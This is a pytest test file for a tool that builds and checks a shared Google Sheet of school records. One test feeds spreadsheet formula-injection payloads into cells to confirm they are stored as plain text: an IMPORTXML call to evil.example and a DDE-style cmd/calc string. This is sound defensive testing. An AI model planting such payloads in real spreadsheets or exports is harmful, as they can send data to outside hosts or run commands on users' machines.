"""The commands on a Google Sheet, through the stand-in: set up, checked, reported on, and nothing of the staff's touched."""

import json
import re
import sys
from email import message_from_bytes
from email.policy import default

import pytest
import spreadsheets
from standins.loading import load
from test_ledger import entry

from toolkit.cli import main
from toolkit.outputs import load_outputs
from toolkit.plans import load_plan
from toolkit.sample import AS_OF, build_sample
from toolkit.schema import load_schema

SCHEMA = load_schema()
OUTPUTS = load_outputs()
DAY = AS_OF.isoformat()
OWN = (*OUTPUTS.sheets.values(), OUTPUTS.book["chart_data"], OUTPUTS.book["memory"])


@pytest.fixture(scope="module")
def sample(tmp_path_factory):
    path = tmp_path_factory.mktemp("sample") / "示例.xlsx"
    build_sample(path, load_plan("S9").quotas)
    return path


@pytest.fixture
def run(monkeypatch, capsys, tmp_path):
    """Runs a command in this process; its exit code, what it printed, and what it said besides."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))

    def command(*arguments):
        monkeypatch.setattr(sys, "argv", ["consortium", *map(str, arguments)])
        capsys.readouterr()
        code = 0
        try:
            main()
        except SystemExit as end:
            code = end.code or 0
        out, err = capsys.readouterr()
        return code, out, err

    return command


@pytest.fixture
def place(sheets, tmp_path):
    """An empty spreadsheet that a person shared, and the configuration that leads to it."""
    number = spreadsheets.made(sheets, "示例")
    return number, spreadsheets.config(sheets, number, tmp_path)


@pytest.fixture
def full(sheets, place, sample):
    """The sample community in it, set up around what people had entered."""
    load(sheets.client(), place[0], sample)
    sheets.log.clear()
    return place


def _staff(sheets, number):
    """All that stands in tabs that are not the toolkit's own: cells, formats, sizes, everything."""
    book = sheets.store.books[number]
    own = {
        item["location"].get("sheetId") for item in book.metadata.values() if item["metadataKey"] == "consortium.output"
    }
    return {
        tab.properties["sheetId"]: (
            dict(tab.properties),
            _flat(tab),
            list(tab.merges),
            dict(tab.column_meta),
            dict(tab.row_meta),
        )
        for tab in book.sheets
        if tab.properties["sheetId"] not in own
    }


def _flat(tab):
    """The cells of a tab of the stand-in by row and column."""
    return {(row, column): cell for row, line in tab.cells.items() for column, cell in line.items()}


def _cells(sheets, number, title):
    return sheets.client().open_by_key(number).worksheet(title).get_all_values()


def _kinds(sheets):
    return [call.kind for call in sheets.log if call.api == "sheets"]


# --- set-up


def test_set_up_in_one_batch_and_never_again(sheets, place, run):
    code, out, err = run("init", "--plan", "S9", "--config", place[1])
    assert code == 0, err
    assert "17 sheets" in out
    assert _kinds(sheets).count("write") == 1
    titles = [tab.title for tab in sheets.client().open_by_key(place[0]).worksheets()]
    assert {sheet.title for sheet in SCHEMA.sheets.values()} | set(OWN) <= set(titles)
    assert titles[0] == "Sheet1"
    before = sheets.store.books[place[0]]
    sheets.log.clear()
    code, out, err = run("init", "--plan", "S9", "--config", place[1])
    assert code == 0
    assert _kinds(sheets).count("write") == 0
    assert sheets.store.books[place[0]] is before
    assert "3 calls to Google" in err


def test_an_empty_record_set_up_can_be_checked_and_reported_on(sheets, place, run):
    run("init", "--plan", "S9", "--config", place[1])
    code, out, _ = run("check", "--config", place[1], "--as-of", DAY)
    assert (code, "角色" in out) == (1, True)
    code, out, err = run("dashboard", "--config", place[1], "--as-of", DAY)
    assert (code, out.startswith("https://docs.google.com/spreadsheets/d/")) == (0, True), err
    assert sheets.failures == []


def test_set_up_around_what_staff_have(sheets, full, run):
    before = _staff(sheets, full[0])
    assert run("init", "--config", full[1])[0] == 0
    after = _staff(sheets, full[0])
    for tab, (properties, cells, merges, columns, rows) in before.items():
        values = {at: cell["userEnteredValue"] for at, cell in cells.items() if "userEnteredValue" in cell}
        now = {at: cell.get("userEnteredValue") for at, cell in after[tab][1].items()}
        assert {at: now.get(at) for at in values} == values
        assert (after[tab][0]["title"], after[tab][0]["index"]) == (properties["title"], properties["index"])
        assert after[tab][2] == merges
        assert {at: after[tab][3].get(at) for at in columns} == columns
        assert {at: after[tab][4].get(at) for at in rows} == rows
    sheets.log.clear()
    assert run("init", "--config", full[1])[0] == 0
    assert _kinds(sheets).count("write") == 0


def test_a_file_in_the_trash_or_of_another_kind_is_not_set_up(sheets, run, tmp_path):
    trashed = spreadsheets.made(sheets, trashed=True)
    code, _, err = run("init", "--config", spreadsheets.config(sheets, trashed, tmp_path))
    assert (code, "trash" in err, err.count("\n")) == (3, True, 2)
    office = sheets.add_file(
        name="登记.xlsx", mimeType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    code, _, err = run("init", "--config", spreadsheets.config(sheets, office["id"], tmp_path))
    assert (code, "Save as Google Sheets" in err) == (3, True)
    assert _kinds(sheets).count("write") == 0


def test_drop_downs_that_pasting_destroyed(sheets, full, run):
    run("init", "--config", full[1])
    tab = sheets.client().open_by_key(full[0]).worksheet("学校")
    role = _header(tab.get_all_values(), "角色")[1]
    area = {
        "sheetId": tab.id,
        "startRowIndex": 6,
        "endRowIndex": 9,
        "startColumnIndex": role,
        "endColumnIndex": role + 1,
    }
    sheets.edit(full[0], {"request": {"setDataValidation": {"range": area}}})
    code, out, _ = run("doctor", "--config", full[1], "--as-of", DAY)
    assert (code, "下拉 drop-downs：粘贴弄丢了下拉：学校 角色" in out) == (1, True)
    code, out, _ = run("init", "--repair", "--config", full[1])
    letter = "ABCDEFGHIJ"[role]
    assert (code, f"{letter}7:{letter}9" in out) == (0, True)
    sheets.log.clear()
    run("init", "--repair", "--config", full[1])
    assert _kinds(sheets).count("write") == 0


def _header(rows, name):
    """Row and column, from 0, of a column's header."""
    places = ((row, column) for row, line in enumerate(rows) for column in range(len(line)))
    return next((row, column) for row, column in places if "".join(rows[row][column].split()).strip("*") == name)


# --- the same as a workbook


@pytest.mark.parametrize("order", ["filled, then set up", "set up, then filled", "filled only"])
def test_the_sample_gives_what_the_workbook_gives(sheets, place, sample, run, order):
    steps = {
        "filled": lambda: load(sheets.client(), place[0], sample),
        "set up": lambda: run("init", "--plan", "S9", "--config", place[1]),
    }
    for step in order.removesuffix(" only").split(", "):
        steps[step.removeprefix("then ")]()
    for command in ("check", "quotas"):
        expected = run(command, "--json", "--as-of", DAY, "--workbook", sample)
        found = run(command, "--json", "--as-of", DAY, "--config", place[1])
        told = [
            problem
            for problem in json.loads(found[1])
            if not str(problem.get("rule")).startswith(("sheet.", "header."))
        ]
        assert (found[0], told) == (expected[0], json.loads(expected[1]))


def test_the_mails_are_those_of_the_workbook_with_links_besides(full, sample, run, tmp_path):
    run("weekly", "--dry-run", "--as-of", DAY, "--workbook", sample, "--out", tmp_path / "a")
    code, out, err = run("weekly", "--dry-run", "--as-of", DAY, "--config", full[1], "--out", tmp_path / "b")
    assert code == 0, err
    names = [path.name for path in sorted((tmp_path / "a").glob("*.eml"))]
    assert len(names) == len(out.splitlines()) == 25
    for name in names:
        one, two = (_text(tmp_path / folder / name) for folder in "ab")
        assert two.startswith(one.partition("\n-- ")[0][:400])
        assert set(re.findall(r"\S+", two)) >= set(re.findall(r"\S+", one)) - {
            word for word in re.findall(r"\S+", one) if "示例.xlsx" in word
        }
        assert full[0] in two


def _text(path):
    message = message_from_bytes(path.read_bytes(), policy=default)
    return message.get_body(("plain",)).get_content()


# --- the dashboard


def test_two_reads_and_one_write_and_none_if_nothing_changed(sheets, full, run):
    assert run("dashboard", "--config", full[1], "--as-of", DAY)[0] == 0
    assert _kinds(sheets) == ["read", "read", "write"]
    first = {title: _cells(sheets, full[0], title) for title in OWN}
    sheets.log.clear()
    code, _, err = run("dashboard", "--config", full[1], "--as-of", DAY)
    assert (code, _kinds(sheets)) == (0, ["read", "read"])
    assert "2 calls to Google: 2 to read, 0 to write" in err
    assert {title: _cells(sheets, full[0], title) for title in OWN} == first


def test_figures_are_those_of_the_dashboard_workbook(sheets, full, sample, run, tmp_path):
    import openpyxl  # noqa: PLC0415

    run("dashboard", "--workbook", sample, "--as-of", DAY, "--out", tmp_path / "out")
    run("dashboard", "--config", full[1], "--as-of", DAY)
    book = openpyxl.load_workbook(tmp_path / "out" / "看板.xlsx")
    client = sheets.client().open_by_key(full[0])
    for key, title in OUTPUTS.sheets.items():
        if key in {"ledger", "runs"}:  # each keeps its own
            continue
        expected = [
            [cell if cell is not None else "" for cell in row] for row in book[title].iter_rows(values_only=True)
        ]
        found = client.worksheet(title).get_values(
            value_render_option="UNFORMATTED_VALUE", date_time_render_option="SERIAL_NUMBER"
        )
        for row, line in enumerate(expected):
            for column, value in enumerate(line):
                cell = found[row][column] if row < len(found) and column < len(found[row]) else ""
                if hasattr(value, "year"):
                    value = (value - type(value)(1899, 12, 30)).days  # noqa: PLW2901
                assert cell == (pytest.approx(value) if isinstance(value, float) else value), (title, row, column)


def test_nothing_but_our_own_tabs_is_touched_while_a_person_edits(sheets, full, run):
    """A person types, renames, adds and sorts between every call; all of it stands afterwards."""
    run("init", "--config", full[1])
    book = sheets.client().open_by_key(full[0])
    events = book.worksheet("活动")
    renamed = {"properties": {"sheetId": events.id, "title": "大家的活动"}, "fields": "title"}
    row = {"sheetId": events.id, "dimension": "ROWS", "startIndex": 0, "endIndex": 1}
    edits = [
        {"sheet": "人员", "cell": "L9", "value": "甲"},
        {"request": {"updateSheetProperties": renamed}},
        {"request": {"addSheet": {"properties": {"sheetId": 424242, "title": "私人"}}}},
        {"sheet": "私人", "cell": "A1", "value": "=1+1"},
        {"request": {"insertDimension": {"range": row}}},
        {"sheet": "大家的活动", "cell": "A1", "value": "丙"},
    ]
    for place, edit in enumerate(edits):
        call, when = place // 2, ("before", "after")[place % 2]
        sheets.faults.add("person", spreadsheet=full[0], api="sheets", after=call, times=1, when=when, edits=[edit])
    before = _staff(sheets, full[0])
    code, _, err = run("dashboard", "--config", full[1], "--as-of", DAY)
    assert code == 0, err
    after = _staff(sheets, full[0])
    changed = {tab for tab in after if tab not in before or _typed(before[tab]) != _typed(after[tab])}
    people = book.worksheet("人员").id
    assert changed == {people, events.id, 424242}
    assert _typed(before[people]) == {at: cell for at, cell in _typed(after[people]).items() if at != (8, 11)}


def _typed(tab):
    """Contents and formats; rules follow rows that people insert elsewhere."""
    return {at: {key: part for key, part in cell.items() if key != "dataValidation"} for at, cell in tab[1].items()}


def test_text_goes_in_as_text(sheets, place, run):
    hostile = '=IMPORTXML("http://evil.example","//a")'
    rows = {
        "学校": [["学校", "角色"], [hostile, "领衔学校"], ["+cmd|' /C calc'!A0", "成员学校"]],
        "学期": [["学期", "学年", "开始日期", "结束日期"], ["@SUM(1)", "2026", "2026-09-01", "2027-01-20"]],
    }
    text = {
        title: [[f"'{cell}" if cell[0] in "=+@" else cell for cell in row] for row in lines]
        for title, lines in rows.items()
    }
    book = sheets.client().open_by_key(place[0])
    for title, lines in text.items():
        book.add_worksheet(title, 50, 10).update(lines, value_input_option="USER_ENTERED")
    assert run("init", "--plan", "S9", "--config", place[1])[0] == 0
    assert run("dashboard", "--config", place[1], "--as-of", DAY)[0] == 0
    cells = [cell for tab in sheets.store.books[place[0]].sheets for cell in _flat(tab).values()]
    formulas = [
        cell["userEnteredValue"]["formulaValue"] for cell in cells if "formulaValue" in cell.get("userEnteredValue", {})
    ]
    assert formulas == []
    shown = json.dumps([_cells(sheets, place[0], title) for title in OWN], ensure_ascii=False)
    assert "IMPORTXML" in shown


def test_links_lead_to_the_very_cells(sheets, full, run):
    run("dashboard", "--config", full[1], "--as-of", DAY)
    book = sheets.store.books[full[0]]
    tabs = {tab.properties["title"]: tab for tab in book.sheets}
    found = 0
    problems = _flat(tabs["待改"])
    for cell in problems.values():
        uri = cell.get("userEnteredFormat", {}).get("textFormat", {}).get("link", {}).get("uri", "")
        if uri:
            gid, area = re.fullmatch(r"#gid=(\d+)&range=([A-Z]+\d+)", uri).groups()
            title = next(title for title, tab in tabs.items() if tab.properties["sheetId"] == int(gid))
            assert cell["userEnteredValue"]["stringValue"].startswith(title.strip()[:2])
            assert title not in OWN
            assert area
            found += 1
    assert found > 30


def test_the_letters_that_were_sent_stay_as_they_are(sheets, full, run, tmp_path):
    assert run("init", "--config", full[1])[0] == 0
    title = OUTPUTS.sheets["ledger"]
    assert sheets.client().open_by_key(full[0]).worksheet(title).row_values(1) == [*OUTPUTS.columns["ledger"].values()]
    sent = entry(state="sent")
    spreadsheets.opened(sheets, full[0], tmp_path).ledger.settle([sent])
    book = sheets.store.books[full[0]]
    tab = next(tab for tab in book.sheets if tab.properties["title"] == title)
    before = _flat(tab), dict(tab.properties), dict(tab.column_meta), dict(tab.row_meta)
    assert run("dashboard", "--config", full[1], "--as-of", DAY)[0] == 0
    assert run("init", "--config", full[1])[0] == 0
    assert run("dashboard", "--config", full[1], "--as-of", "2026-12-01")[0] == 0
    assert (_flat(tab), dict(tab.properties), dict(tab.column_meta), dict(tab.row_meta)) == before
    assert spreadsheets.opened(sheets, full[0], tmp_path).ledger.entries() == {sent.message_id: sent}


def test_sending_does_not_make_the_next_dashboard_write(sheets, full, run, tmp_path):
    run("dashboard", "--config", full[1], "--as-of", DAY)
    spreadsheets.opened(sheets, full[0], tmp_path).ledger.settle([entry(state="sent")])
    sheets.log.clear()
    assert run("dashboard", "--config", full[1], "--as-of", DAY)[0] == 0
    assert _kinds(sheets) == ["read", "read"]


def test_a_deleted_tab_of_letters_and_a_lost_protection_come_back(sheets, full, run, tmp_path):
    run("dashboard", "--config", full[1], "--as-of", DAY)
    client = sheets.client().open_by_key(full[0])
    client.del_worksheet(client.worksheet(OUTPUTS.sheets["ledger"]))
    assert run("dashboard", "--config", full[1], "--as-of", DAY)[0] == 0
    connection = spreadsheets.opened(sheets, full[0], tmp_path).connection
    (protection,) = connection.structure().outputs["ledger"].some("protectedRanges")
    client.batch_update({"requests": [{"deleteProtectedRange": {"protectedRangeId": protection["protectedRangeId"]}}]})
    assert run("dashboard", "--config", full[1], "--as-of", DAY)[0] == 0
    assert len(connection.structure().outputs["ledger"].some("protectedRanges")) == 1


def test_a_deleted_tab_of_ours_is_made_anew_and_a_strangers_is_left(sheets, full, run):
    client = sheets.client().open_by_key(full[0])
    mine = client.add_worksheet("看板", 5, 5)
    mine.update_acell("A1", "我的看板")
    run("dashboard", "--config", full[1], "--as-of", DAY)
    assert client.worksheet("看板").acell("A1").value == "我的看板"
    client.del_worksheet(client.worksheet("待改"))
    sheets.log.clear()
    assert run("dashboard", "--config", full[1], "--as-of", DAY)[0] == 0
    assert _kinds(sheets) == ["read", "read", "write"]
    assert len(_cells(sheets, full[0], "待改")) > 30
    assert client.worksheet("看板").acell("A1").value == "我的看板"


def test_charts_are_updated_not_added_again(sheets, full, run):
    run("dashboard", "--config", full[1], "--as-of", DAY)
    charts = [list(tab.charts) for tab in sheets.store.books[full[0]].sheets]
    assert run("dashboard", "--config", full[1], "--as-of", "2026-12-01")[0] == 0
    assert [list(tab.charts) for tab in sheets.store.books[full[0]].sheets] == charts
    assert sum(map(len, charts)) >= 4


@pytest.mark.parametrize("fault", ["cut_after", "cut_before", "error"])
def test_a_reader_never_sees_half(sheets, full, run, fault, monkeypatch):
    monkeypatch.setattr("time.sleep", lambda _: None)
    run("dashboard", "--config", full[1], "--as-of", DAY)
    before = {title: _cells(sheets, full[0], title) for title in OWN}
    more = {"status": 503} if fault == "error" else {}
    sheets.faults.add(fault, path=":batchUpdate", times=1, **more)
    sheets.log.clear()
    code, _, err = run("dashboard", "--config", full[1], "--as-of", "2026-12-01")
    after = {title: _cells(sheets, full[0], title) for title in OWN}
    assert code == 0, err
    assert after["看板"] != before["看板"]
    assert "2026-12-01" in json.dumps(after["看板"], ensure_ascii=False)
    assert _kinds(sheets).count("write") == (1 if fault == "cut_after" else 2)
    assert sheets.client().open_by_key(full[0]).worksheets()


def test_what_earlier_runs_saw_lives_in_the_sheet(sheets, full, run, tmp_path):
    run("dashboard", "--config", full[1], "--as-of", "2026-11-17")
    memory = sheets.client().open_by_key(full[0]).worksheet(OUTPUTS.book["memory"])
    assert memory.isSheetHidden
    code, _, err = run("dashboard", "--config", full[1], "--as-of", DAY)
    assert (code, "Working out the weeks" in err) == (0, False)
    front = json.dumps(_cells(sheets, full[0], "看板"), ensure_ascii=False)
    assert "比上周" in front
    assert not list(tmp_path.rglob("*历次结果*"))
    memory.update_acell("C3", "not what was there")
    assert run("dashboard", "--config", full[1], "--as-of", "2026-12-01")[0] == 0


def test_pages_are_written_where_a_folder_is_named(full, run, tmp_path):
    code, out, _ = run("dashboard", "--config", full[1], "--as-of", DAY, "--out", tmp_path / "pages")
    assert (code, len(out.splitlines())) == (0, 13)
    page = (tmp_path / "pages" / "index.html").read_text("utf-8")
    assert f"https://docs.google.com/spreadsheets/d/{full[0]}/edit" in page


def test_the_other_commands(full, run, tmp_path):
    assert run("explain", "2.2", "--config", full[1], "--as-of", DAY)[0] == 0
    assert run("preview", "--no-open", "--config", full[1], "--as-of", DAY, "--out", tmp_path / "p")[0] == 0
    assert (
        run("report", "--term", "2026-2027学年第一学期", "--config", full[1], "--as-of", DAY, "--out", tmp_path / "r")[
            0
        ]
        == 0
    )


def test_copies_that_people_make_of_our_tabs_are_theirs(sheets, full, run):
    config = full[1].read_text() + "[output]\nschool_sheets = true\n"
    full[1].write_text(config)
    run("dashboard", "--config", full[1], "--as-of", "2026-11-17")
    book = sheets.client().open_by_key(full[0])
    front = book.worksheet("看板")
    kept = front.duplicate(insert_sheet_index=0, new_sheet_name="看板 存档")
    kept.update_acell("A1", "我的存档")
    school = next(tab for tab in book.worksheets() if tab.title.startswith("待改·"))
    school.duplicate(new_sheet_name="我的待改")
    full[1].write_text(config.replace("true", "false"))
    for day in (DAY, "2026-12-01"):
        code, _, err = run("dashboard", "--config", full[1], "--as-of", day)
        assert code == 0, err
    titles = [tab.title for tab in book.worksheets()]
    assert {"看板 存档", "我的待改"} <= set(titles)
    assert not any(title.startswith("待改·") for title in titles)
    assert book.worksheet("看板 存档").acell("A1").value == "我的存档"
    assert "2026-12-01" in json.dumps(_cells(sheets, full[0], "看板"), ensure_ascii=False)


def test_what_the_owner_does_to_our_tabs_does_not_stop_us(sheets, full, run):
    run("dashboard", "--config", full[1], "--as-of", "2026-11-17")
    book = sheets.client().open_by_key(full[0])
    front = book.worksheet("待改")
    whole = {"sheetId": front.id, "startRowIndex": 0, "endRowIndex": 9, "startColumnIndex": 0, "endColumnIndex": 4}
    white = {"headerColor": {"red": 1}, "firstBandColor": {"red": 1}, "secondBandColor": {"blue": 1}}
    spec = next(iter(next(tab for tab in sheets.store.books[full[0]].sheets if tab.title == "看板").charts.values()))[
        "spec"
    ]
    own = {"spec": spec, "position": {"overlayPosition": {"anchorCell": {"sheetId": front.id}}}, "chartId": 99}
    sheets.edit(
        full[0],
        {"request": {"addBanding": {"bandedRange": {"range": whole, "rowProperties": white}}}},
        {"request": {"addChart": {"chart": own}}},
    )
    code, _, err = run("dashboard", "--config", full[1], "--as-of", DAY)
    assert code == 0, err
    tab = next(tab for tab in sheets.store.books[full[0]].sheets if tab.id == front.id)
    assert (tab.banded, 99 in tab.charts) == ({}, True)


def test_charts_and_names_that_were_deleted_come_back(sheets, full, run):
    run("dashboard", "--config", full[1], "--as-of", DAY)
    book = sheets.store.books[full[0]]
    front = next(tab for tab in book.sheets if tab.title == "看板")
    for number in list(front.charts):
        sheets.edit(full[0], {"request": {"deleteEmbeddedObject": {"objectId": number}}})
    assert run("dashboard", "--config", full[1], "--as-of", DAY)[0] == 0
    assert len(next(tab for tab in sheets.store.books[full[0]].sheets if tab.title == "看板").charts) == len(
        front.charts
    )
    (named,) = (
        key for key, item in sheets.store.books[full[0]].named_ranges.items() if item["name"] == "consortium_lights"
    )
    sheets.edit(full[0], {"request": {"deleteNamedRange": {"namedRangeId": named}}})
    assert run("dashboard", "--config", full[1], "--as-of", DAY)[0] == 0
    assert any(item["name"] == "consortium_lights" for item in sheets.store.books[full[0]].named_ranges.values())


def test_an_archive_of_an_entry_sheet_is_not_read(sheets, full, run):
    run("init", "--config", full[1])
    book = sheets.client().open_by_key(full[0])
    tab = book.worksheet("活动")
    tab.duplicate(new_sheet_name="活动 去年的")
    top = _header(tab.get_all_values(), "类别")[0]
    tab.batch_clear([f"A{top + 2}:Z500"])
    _, out, _ = run("check", "--json", "--config", full[1], "--as-of", DAY)
    problems = json.loads(out)
    assert not any(problem["rule"] == "sheet.renamed" for problem in problems)
    assert not any(problem["sheet"] == "活动" and problem["row"] for problem in problems)


@pytest.mark.parametrize("content", ["2026-", '["", "2026-'])
def test_a_memory_that_somebody_typed_over_is_told_and_does_not_stop_us(sheets, full, run, content):
    run("dashboard", "--config", full[1], "--as-of", "2026-11-17")
    book = sheets.client().open_by_key(full[0])
    memory = book.worksheet(OUTPUTS.book["memory"])
    cells = [[cell.replace(content, "x") for cell in row] for row in memory.get_all_values()]
    memory.update(cells, value_input_option="RAW")
    for command in ("dashboard", "preview", "doctor"):
        code, _, err = run(
            command, "--config", full[1], "--as-of", DAY, *(["--no-open"] if command == "preview" else [])
        )
        assert "unexpected fault" not in err, err
        assert code in {0, 1}, err


def test_numbers_that_may_be_days_are_pointed_out(sheets, place, run):
    rows = {
        "学校": [["学校", "角色"], ["中心", "领衔学校"]],
        "成绩": [
            ["考试", "日期", "学校", "年级", "学科", "参考人数", "平均分"],
            ["期中", "2025-11-13", "中心", "六年级", "语文", "9/8", 81.5],
            ["期中", "2025-11-13", "全市", "六年级", "语文", "", 80],
        ],
    }
    book = sheets.client().open_by_key(place[0])
    for title, lines in rows.items():
        book.add_worksheet(title, 50, 10).update(lines, value_input_option="USER_ENTERED")
    _, out, _ = run("check", "--json", "--config", place[1], "--as-of", DAY)
    (found,) = (problem for problem in json.loads(out) if problem["rule"] == "number.like_date")
    assert (found["cell"], found["severity"], "09-08" in found["message"]) == ("F2", "warning", True)


def test_an_error_cell_is_lit(sheets, full, run):
    tab = sheets.client().open_by_key(full[0]).worksheet("活动")
    header, column = _header(tab.get_all_values(), "状态")
    cell = f"{'ABCDEFGHIJKLM'[column]}{header + 4}"
    tab.update([["=1/0"]], cell, value_input_option="USER_ENTERED")
    run("init", "--config", full[1])
    run("dashboard", "--config", full[1], "--as-of", DAY)
    assert _red(sheets, full[0], f"活动!{cell}")


# --- lights


def test_the_keys_of_the_lights_stand_in_a_hidden_column(sheets, full, run):
    run("init", "--config", full[1])
    run("dashboard", "--config", full[1], "--as-of", DAY)
    rows = _cells(sheets, full[0], "待改")
    keys = [row[-1] for row in rows[1:] if row[-1]]
    assert len(keys) > 30
    assert all(re.match(r"[a-z_]+![A-Z]+\d+\|", key) for key in keys)
    named = {item["name"]: item["range"] for item in sheets.store.books[full[0]].named_ranges.values()}
    assert named["consortium_lights"]["startColumnIndex"] == len(rows[0]) - 1


def test_a_light_goes_out_when_the_cell_is_put_right(sheets, full, run):
    run("init", "--config", full[1])
    run("dashboard", "--config", full[1], "--as-of", DAY)
    tab = sheets.client().open_by_key(full[0]).worksheet("工作计划")
    problems = [row for row in _cells(sheets, full[0], "待改") if row[-1].startswith("tasks!") and "月底" in row[-1]]
    cell = problems[0][-1].removeprefix("tasks!").partition("|")[0]
    assert _red(sheets, full[0], f"工作计划!{cell}")
    tab.update([["2026-12-01"]], cell, value_input_option="USER_ENTERED")
    assert not _red(sheets, full[0], f"工作计划!{cell}")
    tab.update([["月底"]], cell, value_input_option="RAW")
    assert _red(sheets, full[0], f"工作计划!{cell}")
    row = int(re.sub(r"\D", "", cell))
    tab.insert_rows([[]], row)
    assert not _red(sheets, full[0], f"工作计划!{cell}")


def _red(sheets, number, area):
    """Whether a cell is shown on the ground of faults."""
    fields = "sheets.data.rowData.values.effectiveFormat.backgroundColor"
    answer = sheets.client().http_client.spreadsheets_get(number, {"ranges": [area], "fields": fields})
    colour = answer["sheets"][0]["data"][0]["rowData"][0]["values"][0]["effectiveFormat"]["backgroundColor"]
    return colour.get("red", 0) > 0.9 and colour.get("green", 0) < 0.9


def test_a_protection_that_was_removed_is_found_and_put_back(sheets, full, run):
    run("init", "--config", full[1])
    book = sheets.client().open_by_key(full[0])
    front = book.worksheet("看板")
    (protection,) = (item for item in sheets.store.books[full[0]].sheets if item.properties["sheetId"] == front.id)
    for number in list(protection.protected):
        sheets.edit(full[0], {"request": {"deleteProtectedRange": {"protectedRangeId": number}}})
    code, out, _ = run("doctor", "--config", full[1], "--as-of", DAY)
    assert (code, "✗ 保护 protections：看板 没有保护" in out) == (1, True)
    assert run("init", "--config", full[1])[0] == 0
    assert "✓ 保护 protections" in run("doctor", "--config", full[1], "--as-of", DAY)[1]


# --- doctor and usage


def test_doctor_finds_nothing_amiss_where_all_is_well(full, run):
    run("init", "--config", full[1])
    run("dashboard", "--config", full[1], "--as-of", DAY)
    code, out, _ = run("doctor", "--config", full[1], "--as-of", DAY)
    told = [line for line in out.splitlines()[:-1] if line[0] != "✓"]
    known = [
        "○ 运行记录 record of runs：还没有定时运行过",
        "○ 收件人 recipients：收件人!6",
        "○ 发送记录 ledger：还没有寄过信",
        "○ 邮件设置 mail settings：还不能寄信",
    ]
    assert (code, [line.startswith(begin) for line, begin in zip(told, known, strict=True)]) == (0, [True] * 4), out
    assert "一切正常" in out


@pytest.mark.parametrize(
    ("fault", "word"),
    [
        ({"kind": "forbidden", "reason": "not_shared"}, "编辑者"),
        ({"kind": "forbidden", "reason": "api_disabled"}, "启用"),
        ({"kind": "not_found"}, "重新复制"),
        ({"kind": "clock", "minutes": 42}, "慢了 42 分钟"),
    ],
)
def test_doctor_says_what_to_do(sheets, full, run, fault, word):
    sheets.faults.add(fault)
    code, out, _ = run("doctor", "--config", full[1], "--as-of", DAY)
    line = next(line for line in out.splitlines() if word in line)
    assert (code, line[0], " / " in line) == (3, "✗", True)


def test_doctor_on_a_workbook(sample, run, tmp_path):
    code, out, _ = run("doctor", "--workbook", sample, "--as-of", DAY)
    assert (code, "○ 邮件设置" in out, "✓ 打开表格" in out) == (0, True, True)
    code, out, _ = run("doctor", "--workbook", tmp_path / "missing.xlsx")
    assert (code, "✗ 打开表格" in out) == (3, True)
    (tmp_path / "consortium.toml").write_text("[nonsense]\n")
    assert run("doctor", "--workbook", sample)[0] == 2


def test_doctor_says_what_it_found_before_a_fault(sheets, full, run, monkeypatch):
    monkeypatch.setattr("time.sleep", lambda _: None)
    sheets.faults.add("error", status=500, path=":getByDataFilter")
    code, out, _ = run("doctor", "--config", full[1], "--as-of", DAY)
    assert (code, "✓ 打开表格" in out, "✗ 设置 set-up" in out) == (3, True, True)


def test_a_fault_keeps_its_code_with_the_traceback(sheets, full, run):
    sheets.faults.add("not_found")
    code, _, err = run("check", "--config", full[1], "--debug")
    assert (code, "Traceback" in err) == (3, True)


def test_a_source_is_named_once(sheets, full, sample, run, tmp_path):
    code, _, err = run("check", "--workbook", sample, "--sheet", full[0])
    assert (code, "not both" in err) == (2, True)
    config = tmp_path / "both.toml"
    config.write_text(full[1].read_text() + '[workbook]\npath = "a.xlsx"\n')
    code, _, err = run("check", "--config", config)
    assert (code, "keep one" in err) == (2, True)
    code, _, err = run(
        "check",
        "--config",
        full[1],
        "--sheet",
        f"https://docs.google.com/spreadsheets/d/{full[0]}/edit#gid=0",
        "--as-of",
        DAY,
    )
    assert (code, "calls to Google" in err) == (1, True)
    assert run("init", "--repair", "--workbook", tmp_path / "new.xlsx")[0] == 2
    assert sheets.failures == []


def test_a_key_that_others_can_read_is_pointed_out(full, run, tmp_path):
    (tmp_path / "key.json").chmod(0o644)
    _, _, err = run("check", "--config", full[1], "--as-of", DAY)
    assert "can be read by other users" in err
